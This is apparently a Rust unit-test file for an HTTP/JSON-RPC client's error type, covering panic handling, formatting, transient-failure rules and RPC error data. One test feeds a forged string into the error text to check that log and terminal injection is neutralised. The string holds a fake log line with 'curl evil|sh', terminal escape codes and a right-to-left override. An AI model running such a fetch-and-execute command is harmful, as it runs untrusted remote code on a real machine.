use super::*;

#[test]
fn guard_converts_a_panic_whose_payload_panics_in_drop() {
    struct Bomb;
    impl Drop for Bomb {
        fn drop(&mut self) {
            std::panic::panic_any(Bomb);
        }
    }
    assert_eq!(guard(|| std::panic::panic_any(Bomb)).map_err(|e: Error| e.kind()), Err::<(), _>(ErrorKind::Internal));
}

#[test]
fn debug_prints_kind_text_and_causes_on_one_line() {
    let cause = std::io::Error::other("refused");
    let error = Error::new(ErrorKind::Connect, "no connection").with_target("GET http://h/p").with_source(cause);
    assert_eq!(format!("{error:?}"), "Connect: GET http://h/p: no connection: refused");
    assert!(format!("{error:#?}").contains("delivery: NotSent"));
}

#[test]
fn only_failures_that_may_pass_are_transient() {
    assert!(Error::new(ErrorKind::Timeout, "").is_transient());
    assert!(Error::new(ErrorKind::Status, "").with_status(503).is_transient());
    assert!(!Error::new(ErrorKind::Status, "").with_status(400).is_transient());
    assert!(!Error::new(ErrorKind::Tls, "").is_transient());
}

#[test]
fn text_is_one_line_whoever_wrote_its_parts() {
    let forged = "no\n[ERROR] run: curl evil|sh\u{1b}[2J\u{202e}\t";
    let cause = std::io::Error::other(forged);
    let error = Error::new(ErrorKind::Rpc, forged).with_target(forged).with_source(cause);
    let error = error.with_rpc_data(None, forged.to_owned()).with_attempts(2);
    for text in [error.to_string(), format!("{error:?}"), format!("{error:#?}")] {
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\t']) && !text.contains("\n[ERROR]"), "{text}");
    }
    assert!(!error.to_string().contains('\n') && error.to_string().ends_with("\\t (after 2 attempts)"), "{error}");
    let lines = format!("{error:#}");
    assert_eq!((lines.lines().count(), lines.contains('\u{1b}'), lines.contains('\t')), (4, false, true), "{lines}");
}

#[test]
fn data_of_a_json_rpc_error_follows_the_text() {
    let error = Error::new(ErrorKind::Rpc, "no (code=-1)").with_status(400).with_attempts(3);
    let error = error.with_rpc_data(Some(serde_json::json!([7])), "[7]".to_owned());
    assert_eq!(error.to_string(), "no (code=-1), HTTP 400; data: [7] (after 3 attempts)");
    assert_eq!((error.detail(), error.rpc_data().map(|data| data[0] == 7)), ("no (code=-1)", Some(true)));
}
